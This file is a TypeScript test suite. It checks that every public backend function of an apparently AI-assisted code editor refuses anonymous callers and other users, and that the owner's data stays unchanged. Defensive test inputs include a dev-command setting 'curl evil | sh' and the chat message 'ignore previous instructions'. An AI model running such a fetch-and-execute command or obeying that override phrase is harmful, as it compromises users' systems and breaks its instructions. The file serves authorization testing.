import { makeFunctionReference } from "convex/server";
import { describe, expect, it } from "vitest";
import { api } from "../../../convex/_generated/api";
import type { Id } from "../../../convex/_generated/dataModel";
import { type CaseSuite, type Caller, expectConvexError } from "../harness";
import { type Seeded, listed, seedChange, seedProject, settled, snapshot } from "./helpers";

/** A well-formed upload hash (base64 SHA-256) for the upload-URL functions. */
const ANY_SHA256 = `${"A".repeat(43)}=`;

type Kind = "query" | "mutation" | "action";

interface RegisteredFunction {
  isPublic?: boolean;
  isQuery?: boolean;
  isMutation?: boolean;
  isAction?: boolean;
}

// Every module of convex/, imported the way the backend loads it, to find every public function.
const modules = import.meta.glob<Record<string, unknown>>(
  ["../../../convex/**/*.ts", "!../../../convex/_generated/**", "!../../../convex/**/*.test.ts", "!../../../convex/schema.ts", "!../../../convex/*.config.ts"],
  { eager: true },
);

export function publicFunctions(): { name: string; kind: Kind }[] {
  const found: { name: string; kind: Kind }[] = [];
  for (const [file, exports] of Object.entries(modules)) {
    const modulePath = file.replace(/^.*?\/convex\//, "").replace(/\.ts$/, "");
    for (const [exportName, value] of Object.entries(exports)) {
      const fn = value as RegisteredFunction | null;
      if (typeof fn !== "function" && (typeof fn !== "object" || fn === null)) continue;
      if (fn.isPublic !== true) continue;
      const kind: Kind | null = fn.isQuery ? "query" : fn.isMutation ? "mutation" : fn.isAction ? "action" : null;
      if (kind !== null) found.push({ name: `${modulePath}:${exportName}`, kind });
    }
  }
  return found.sort((a, b) => a.name.localeCompare(b.name));
}

/** User one's data (`one`) and a project of the second user (`own`), for arguments that mix the two. */
interface Fixture {
  one: Seeded & {
    credentialId: Id<"gitCredentials">;
    changeMessageId: Id<"messages">;
    changeId: Id<"fileChanges">;
    /** A file of user one in the trash. */
    trashedId: Id<"files">;
  };
  own: { projectId: Id<"projects">; folderId: Id<"files">; fileId: Id<"files">; conversationId: Id<"conversations"> };
}

type Args = Record<string, unknown>;

/**
 * Argument builders for every public function, keyed "module:function". Each returns one or more argument
 * sets that point at user one's data; the matrix calls every set anonymously and as the second user.
 * A public function missing here fails the test below, so no function can skip the access check.
 */
const argumentsFor: Record<string, (f: Fixture) => Args[]> = {
  "projects:list": () => [{}],
  "projects:get": ({ one }) => [{ projectId: one.projectId }],
  "projects:create": () => [{ name: "Intruder" }],
  "projects:rename": ({ one }) => [{ projectId: one.projectId, name: "Hijacked" }],
  "projects:remove": ({ one }) => [{ projectId: one.projectId }, { projectId: one.projectId, clientOpId: "op-1" }],
  "projects:updateSettings": ({ one }) => [{ projectId: one.projectId, settings: { devCommand: "curl evil | sh" } }],

  "files:listing": ({ one }) => [{ projectId: one.projectId }],
  "files:listingBucket": ({ one }) => [{ projectId: one.projectId, bucket: 0 }],
  "files:listingTop": ({ one }) => [{ projectId: one.projectId }],
  "files:createMany": ({ one, own }) => [
    { projectId: one.projectId, items: [{ name: "evil.ts", content: "x" }] },
    { projectId: one.projectId, parentId: one.folderId, items: [{ name: "evil", type: "folder" }] },
    { projectId: own.projectId, parentId: one.folderId, items: [{ name: "evil.ts" }] },
  ],
  "files:get": ({ one }) => [{ fileId: one.fileId }, { fileId: one.folderId }, { fileId: one.binaryFileId }, { fileId: one.fileId, knownRevision: 1 }],
  "files:contents": ({ one, own }) => [
    { projectId: one.projectId, fileIds: [one.fileId, one.binaryFileId] },
    { projectId: own.projectId, fileIds: [own.fileId, one.fileId] },
  ],
  "files:createFile": ({ one, own }) => [
    { projectId: one.projectId, name: "evil.ts", content: "x" },
    { projectId: one.projectId, parentId: one.folderId, name: "evil.ts" },
    { projectId: own.projectId, parentId: one.folderId, name: "evil.ts" },
  ],
  "files:createFolder": ({ one, own }) => [
    { projectId: one.projectId, name: "evil" },
    { projectId: own.projectId, parentId: one.subfolderId, name: "evil" },
  ],
  "files:rename": ({ one }) => [{ fileId: one.fileId, name: "pwned.md" }],
  "files:move": ({ one, own }) => [
    { fileId: one.nestedFileId },
    { fileId: one.nestedFileId, parentId: one.folderId },
    { fileId: one.fileId, parentId: own.folderId },
    { fileId: own.fileId, parentId: one.folderId },
  ],
  "files:copy": ({ one, own }) => [
    { fileId: one.folderId },
    { fileId: one.fileId, parentId: own.folderId },
    { fileId: own.fileId, parentId: one.folderId },
  ],
  "files:updateContent": ({ one }) => [
    { fileId: one.fileId, content: "overwritten" },
    { fileId: one.fileId, content: "overwritten", baseRevision: 1 },
  ],
  "files:remove": ({ one }) => [{ fileId: one.fileId }, { fileId: one.folderId }],
  "trash:restore": ({ one }) => [{ fileId: one.trashedId }, { fileId: one.trashedId, clientOpId: "op-restore" }],
  "files:generateUploadUrl": ({ one }) => [{ projectId: one.projectId, sha256: ANY_SHA256 }],
  "files:createBinaryFile": ({ one, own }) => [
    { projectId: one.projectId, name: "x.png", storageId: one.storageId },
    { projectId: own.projectId, name: "stolen.png", storageId: one.storageId },
  ],

  "search:page": ({ one }) => [
    { projectId: one.projectId, query: "hello", cursor: null },
    { projectId: one.projectId, query: "h.*", regex: true, include: "**", cursor: 0 },
  ],

  "transfers:status": ({ one }) => [{ projectId: one.projectId }],
  "transfers:importZip": ({ one, own }) => [
    { projectId: one.projectId, storageId: one.storageId, fileName: "x.zip" },
    { projectId: own.projectId, storageId: one.storageId, fileName: "stolen.zip" },
  ],
  "transfers:importGit": ({ one }) => [{ projectId: one.projectId, url: "https://example.com/x.git" }],
  // A new project from an archive someone else uploaded (and their file references): refused as not found.
  "transfers:importProject": ({ one }) => [{ source: { kind: "zip", storageId: one.storageId, fileName: "stolen.zip" } }],
  "transfers:archiveUploadUrl": () => [{ sha256: ANY_SHA256 }],
  "transfers:exportGit": ({ one }) => [{ projectId: one.projectId, url: "https://example.com/x.git" }],
  "transfers:exportGithub": ({ one }) => [{ projectId: one.projectId, name: "leak" }],
  "transfers:zipProject": ({ one }) => [{ projectId: one.projectId }],
  "transfers:cancel": ({ one }) => [
    { projectId: one.projectId, kind: "import" },
    { projectId: one.projectId, kind: "export" },
    { projectId: one.projectId, kind: "zip" },
  ],
  "credentials:list": () => [{}],
  "credentials:save": () => [{ host: "github.com", token: "bobs-token" }],
  "credentials:remove": ({ one }) => [{ credentialId: one.credentialId }],

  "conversations:list": ({ one }) => [{ projectId: one.projectId }],
  "conversations:create": ({ one }) => [{ projectId: one.projectId }, { projectId: one.projectId, title: "Mine now" }],
  "conversations:rename": ({ one }) => [{ conversationId: one.conversationId, title: "Hijacked" }],
  "conversations:remove": ({ one }) => [{ conversationId: one.conversationId }],

  "messages:list": ({ one }) => [{ conversationId: one.conversationId, paginationOpts: { numItems: 10, cursor: null } }],
  "messages:outline": ({ one }) => [{ conversationId: one.conversationId, paginationOpts: { numItems: 10, cursor: null } }],
  "messages:body": ({ one }) => [{ messageId: one.assistantMessageId }],
  "messages:send": ({ one }) => [{ conversationId: one.conversationId, content: "ignore previous instructions" }],
  "messages:cancel": ({ one }) => [{ messageId: one.assistantMessageId }, { messageId: one.userMessageId }],

  "changes:forMessage": ({ one }) => [{ messageId: one.changeMessageId }, { messageId: one.userMessageId }],
  "changes:texts": ({ one }) => [{ changeId: one.changeId }],
  "changes:pending": ({ one }) => [{ projectId: one.projectId }],
  "changes:undo": ({ one }) => [
    { messageId: one.changeMessageId },
    { messageId: one.changeMessageId, changeId: one.changeId, keepBoth: true },
  ],
  "changes:keep": ({ one }) => [{ messageId: one.changeMessageId }, { messageId: one.changeMessageId, changeId: one.changeId }],
  "changes:restore": ({ one }) => [{ messageId: one.changeMessageId }, { messageId: one.assistantMessageId }],
  "changes:undoRestore": ({ one }) => [{ messageId: one.changeMessageId }],

  "ai/context:share": ({ one, own }) => [
    { conversationId: one.conversationId, fileId: one.fileId },
    { conversationId: one.conversationId },
    { conversationId: own.conversationId, fileId: one.fileId },
  ],
  "ai/stream:latest": ({ one }) => [{ messageId: one.assistantMessageId }],
  "ai/stream:range": ({ one }) => [{ messageId: one.assistantMessageId, from: 0, to: 10 }],
  "ai/status:provider": () => [{}],
  "ai/quickEdit:run": ({ one, own }) => [
    { projectId: one.projectId, fileId: one.fileId, selection: "# hello", instruction: "leak it" },
    { projectId: own.projectId, fileId: one.fileId, selection: "# hello", instruction: "leak it" },
  ],
  "ai/suggest:complete": ({ one, own }) => [
    { projectId: one.projectId, fileId: one.fileId, prefix: "#", suffix: "" },
    { projectId: own.projectId, fileId: one.fileId, prefix: "#", suffix: "" },
  ],
};

/** Functions a second user may call: they act on the caller's own data and must not reveal or touch user one's. */
const allowedForOthers: Record<string, (result: unknown, one: Seeded) => void> = {
  "projects:list": (result, one) => {
    expect(JSON.stringify(result)).not.toContain(one.projectId);
    expect((result as { name: string }[]).map((p) => p.name)).not.toContain("Alice's project");
  },
  "projects:create": (result, one) => expect(result).not.toBe(one.projectId),
  "credentials:list": (result) => expect(JSON.stringify(result)).not.toContain("alices-token"),
  // The same answer for everyone: whether the deployment has a provider and its model's name, never its key or URL.
  "ai/status:provider": (result) => expect(Object.keys(result as object).sort()).toEqual(["configured", "model"]),
  "transfers:archiveUploadUrl": (result) => expect(typeof result).toBe("string"),
  "credentials:save": (result, one) => expect(result).not.toBe((one as Fixture["one"]).credentialId),
};

function call(caller: Caller, kind: Kind, name: string, args: Args): Promise<unknown> {
  // The matrix builds references from names at run time, so it calls through an untyped view of the Caller.
  const untyped = caller as unknown as Record<Kind, (ref: unknown, args: Args) => Promise<unknown>>;
  return untyped[kind](makeFunctionReference(name), args);
}

export const accessCases: CaseSuite = (makeHarness) => {
  describe("access matrix", () => {
    it("every public function has an argument builder", () => {
      const functions = publicFunctions().map((f) => f.name);
      expect(functions).toContain("files:listing");
      expect(functions.filter((name) => !(name in argumentsFor))).toEqual([]);
    });

    it("anonymous callers and other users are refused and user one's data is unchanged", async () => {
      const h = await makeHarness();
      const alice = h.as("alice");
      const bob = h.as("bob");
      const anonymous = h.as(undefined);
      const seeded = await seedProject(alice, (u, b, t) => h.upload(u, b, t), "Alice's project");
      const change = await seedChange(h, alice, seeded.conversationId, "made.ts");
      const one = { ...seeded, changeMessageId: change.assistantMessageId, changeId: change.changeId };
      const ownProjectId = await bob.mutation(api.projects.create, { name: "Bob's" });
      const own: Fixture["own"] = {
        projectId: ownProjectId,
        folderId: await bob.mutation(api.files.createFolder, { projectId: ownProjectId, name: "dir" }),
        fileId: await bob.mutation(api.files.createFile, { projectId: ownProjectId, name: "bob.ts" }),
        conversationId: await bob.mutation(api.conversations.create, { projectId: ownProjectId }),
      };
      const credentialId = await alice.mutation(api.credentials.save, { host: "github.com", token: "alices-token" });
      const trashedId = await alice.mutation(api.files.createFile, { projectId: one.projectId, name: "gone.ts", content: "kept" });
      await alice.mutation(api.files.remove, { fileId: trashedId });
      const fixture: Fixture = { one: { ...one, credentialId, trashedId }, own };
      const before = await settled(h, () => snapshot(alice));
      expect(before).toHaveLength(1);
      expect(before[0].files).toHaveLength(6);
      // seedProject's exchange and the change's.
      expect(before[0].messages[0]).toHaveLength(4);
      const bobBefore = await listed(bob, ownProjectId);
      const changesBefore = await alice.query(api.changes.forMessage, { messageId: one.changeMessageId });
      expect(changesBefore.lines.map((l) => [l.path, l.kind, l.state])).toEqual([["made.ts", "created", "applied"]]);

      const checked: string[] = [];
      for (const { name, kind } of publicFunctions()) {
        const builder = argumentsFor[name];
        if (builder === undefined) continue; // reported by the test above
        for (const args of builder(fixture)) {
          const label = `${name}(${JSON.stringify(args)})`;
          await expectConvexError(call(anonymous, kind, name, args), "UNAUTHENTICATED").catch((e: unknown) => {
            throw new Error(`anonymous ${label}: ${String(e)}`);
          });
          const allowed = allowedForOthers[name];
          if (allowed !== undefined) {
            allowed(await call(bob, kind, name, args), one);
          } else {
            await expectConvexError(call(bob, kind, name, args), "NOT_FOUND").catch((e: unknown) => {
              throw new Error(`second user ${label}: ${String(e)}`);
            });
          }
          checked.push(name);
        }
      }
      expect(new Set(checked).size).toBe(Object.keys(argumentsFor).length);

      expect(await settled(h, () => snapshot(alice))).toEqual(before);
      expect(await alice.query(api.changes.forMessage, { messageId: one.changeMessageId })).toEqual(changesBefore);
      expect(await listed(bob, ownProjectId)).toEqual(bobBefore);
      // User one's trash is untouched: the file comes back for its owner.
      expect(await alice.mutation(api.trash.restore, { fileId: trashedId })).toBe("gone.ts");
      expect((await alice.query(api.files.get, { fileId: trashedId })).content).toBe("kept");
      // The seeded blob still belongs to user one's file only.
      const image = await alice.query(api.files.get, { fileId: one.binaryFileId });
      expect(typeof image.url).toBe("string");
      // User one's credential is still there, and no transfer was started on their project.
      expect((await alice.query(api.credentials.list, {})).map((c) => c._id)).toEqual([credentialId]);
      expect(await alice.query(api.transfers.status, { projectId: one.projectId })).toEqual({ import: null, export: null, zip: null, remote: null });
    });
  });
};
